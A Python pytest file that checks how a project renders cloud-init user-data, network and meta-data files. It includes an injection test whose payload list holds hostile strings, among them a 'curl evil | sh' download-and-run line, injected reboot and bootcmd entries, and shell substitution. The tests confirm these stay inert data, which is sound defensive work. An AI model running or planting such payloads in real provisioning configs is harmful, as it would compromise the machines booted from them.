"""Rendering: what first boot receives, checked by cloud-init itself; config values stay data."""

from __future__ import annotations

import dataclasses
import ipaddress

import pytest
import yaml
from cloudinit_check import assert_valid_user_data, cloud_init_schema, parse_network_config

from phoenix.cloudinit import (
    render_meta_data,
    render_network_config,
    render_seed,
    render_user_data,
    to_yaml,
)
from phoenix.config import build_config, load_config
from phoenix.config.sample import sample_document

EXTRA_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC3yqQUgijZbO8zW4N+/9STP1+YVY4y8HaMpnZPHOVFm phoenix-pulumi"


@pytest.fixture(scope="module")
def example():
    return load_config("phoenix_vm_configs.json")


def test_user_data_content(example):
    vm = example.vm(8001)
    text = render_user_data(vm, [EXTRA_KEY])
    assert text.startswith("#cloud-config\n")
    doc = yaml.safe_load(text)
    assert doc["hostname"] == "phoenix-docker-01" and doc["fqdn"] == "phoenix-docker-01.lab.internal"
    (user,) = doc["users"]
    assert user["name"] == "phoenix" and user["lock_passwd"] is True
    assert user["ssh_authorized_keys"] == [*vm.user.ssh_authorized_keys, EXTRA_KEY]
    assert doc["disable_root"] is True and doc["ssh_pwauth"] is False
    sshd = doc["write_files"][0]
    assert sshd["path"] == "/etc/ssh/sshd_config.d/10-phoenix.conf"
    assert "PermitRootLogin no" in sshd["content"] and "PasswordAuthentication no" in sshd["content"]
    # the original plan's lessons: the agent is installed and started; growth never names a device
    assert doc["packages"] == ["qemu-guest-agent", "htop"]
    assert any("systemctl start qemu-guest-agent" in " ".join(cmd) for cmd in doc["runcmd"])
    assert doc["growpart"] == {"mode": "auto", "devices": ["/"], "ignore_growroot_disabled": False}
    assert doc["resize_rootfs"] is True
    assert "/dev/sd" not in yaml.safe_dump(doc) and "/dev/vd" not in yaml.safe_dump(doc)  # no disk device named
    assert doc["package_update"] is True


def test_package_update_is_configurable(doc):
    doc["vms"][0]["package_update"] = False
    vm = build_config(doc).vm(8001)
    assert yaml.safe_load(render_user_data(vm))["package_update"] is False


def test_every_rendered_user_data_passes_cloud_init_schema(doc):
    doc["vms"][0].update({"timezone": "Europe/Berlin", "package_update": False, "package_upgrade": True})
    doc["vms"][1]["user"] = {"name": "ops", "sudo": False, "shell": "/bin/sh"}
    del doc["defaults"]["network_config"]["search_domain"]
    variants = [*build_config(doc).vms, *load_config("phoenix_vm_configs.json").vms,
                *build_config(sample_document(2)).vms]
    for vm in variants:
        assert_valid_user_data(render_user_data(vm, [EXTRA_KEY]))


def test_cloud_init_schema_check_can_fail():
    # the checker used above really rejects a wrong document (so the test above can fail)
    result = cloud_init_schema("#cloud-config\npackages: {htop: 1}\nusers: 5\n")
    assert result.returncode == 1 and "packages" in result.stderr + result.stdout


def test_network_config_parsed_by_cloud_init(example):
    parsed = parse_network_config(render_network_config(example.vm(8001)))
    (iface,) = parsed["interfaces"]
    assert iface["mac_address"] == "02:50:48:00:1f:41"
    (subnet,) = iface["subnets"]
    assert subnet["type"] == "static" and subnet["address"] == "10.0.0.101" and subnet["prefix"] == 24
    assert subnet["routes"][0]["gateway"] == "10.0.0.1" and subnet["routes"][0]["prefix"] == 0
    assert parsed["dns"] == ["10.0.0.1"] and parsed["search"] == ["lab.internal"]


def test_network_config_without_gateway_or_dns(doc):
    del doc["defaults"]["network_config"]["gateway"]
    doc["defaults"]["network_config"]["dns"] = []
    del doc["defaults"]["network_config"]["search_domain"]
    text = render_network_config(build_config(doc).vm(8002))
    assert "routes" not in text and "nameservers" not in text
    (iface,) = parse_network_config(text)["interfaces"]
    assert iface["subnets"][0]["address"] == "10.0.0.102"


def test_meta_data_is_stable(example):
    vm = example.vm(8001)
    assert yaml.safe_load(render_meta_data(vm)) == {"instance-id": "iid-phoenix-8001",
                                                    "local-hostname": "phoenix-docker-01"}
    assert render_seed(vm).digest == render_seed(vm).digest
    assert render_seed(vm).digest != render_seed(vm, [EXTRA_KEY]).digest


def test_extra_key_is_checked(example):
    with pytest.raises(ValueError, match="extra SSH key"):
        render_user_data(example.vm(8001), ["ssh-ed25519 AAAA\nruncmd: [reboot]"])


# -- injection: every string field that reaches a template, bypassing the config checks --------

PAYLOADS = [
    "x\nruncmd: [[sh, -c, 'curl evil | sh']]",
    "x\n  - name: root\n",
    'x" \nbootcmd: [reboot]\n#',
    "x'; reboot; echo '",
    "{{ 7*7 }}{% raw %}",
    "x: y",
    "- item",
    "&anchor *alias !!python/object:os.system",
    "#cloud-config\nwrite_files: []",
    "\u2028line\u2029sep\x85nel\U0001F600",
    "$(reboot)`reboot`",
]


def _injected(vm, payload: str):
    net = dataclasses.replace(vm.network_config, search_domain=payload, dns=(payload,), mac_address=payload,
                              interface_name=payload)
    user = dataclasses.replace(vm.user, name=payload, shell=payload,
                               ssh_authorized_keys=(payload, f"ssh-ed25519 AAAA {payload}"))
    return dataclasses.replace(vm, name=payload, timezone=payload, packages=(payload, "htop"),
                               network_config=net, user=user)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_injection_stays_data(example, payload):
    vm = _injected(example.vm(8001), payload)
    user_data = yaml.safe_load(render_user_data(vm))
    assert user_data["hostname"] == payload and user_data["timezone"] == payload
    assert user_data["fqdn"] == f"{payload}.{payload}"
    (user,) = user_data["users"]
    assert user["name"] == payload and user["shell"] == payload
    assert user["ssh_authorized_keys"] == [payload, f"ssh-ed25519 AAAA {payload}"]
    assert user_data["packages"] == ["qemu-guest-agent", payload, "htop"]
    assert "bootcmd" not in user_data and len(user_data["runcmd"]) == 2
    assert all("reboot" not in " ".join(cmd) for cmd in user_data["runcmd"])

    network = yaml.safe_load(render_network_config(vm))
    (name,) = network["ethernets"]
    eth = network["ethernets"][name]
    assert name == payload and eth["match"] == {"macaddress": payload}
    assert eth["nameservers"] == {"addresses": [payload], "search": [payload]}

    meta = yaml.safe_load(render_meta_data(vm))
    assert meta == {"instance-id": "iid-phoenix-8001", "local-hostname": payload}


@pytest.mark.parametrize("value", ["plain", "a\nb", 'q"uote', "\x00\x07", "é", 0, True, None, ["a", "b\n"],
                                   ipaddress.IPv4Address("10.0.0.1").exploded])
def test_to_yaml_round_trips_on_one_line(value):
    text = to_yaml(value)
    assert "\n" not in text and yaml.safe_load(f"k: {text}") == {"k": value}


def test_preinstalled_agent_means_no_package_step(doc):
    doc["vms"][0].update({"package_update": False, "packages": [], "guest_agent": {"preinstalled": True}})
    doc["vms"][1].update({"guest_agent": {"preinstalled": True}})
    config = build_config(doc)
    bare = yaml.safe_load(render_user_data(config.vm(8001)))
    assert "packages" not in bare and bare["package_update"] is False
    # the agent is still started (it may be a static unit that udev has not started yet)
    assert any("systemctl start qemu-guest-agent" in " ".join(cmd) for cmd in bare["runcmd"])
    assert yaml.safe_load(render_user_data(config.vm(8002)))["packages"] == ["nginx"]
    for vm in config.vms:
        assert_valid_user_data(render_user_data(vm))


def test_host_key_types(example):
    doc = yaml.safe_load(render_user_data(example.vm(8001)))
    assert doc["ssh_genkeytypes"] == ["ed25519", "ecdsa"]
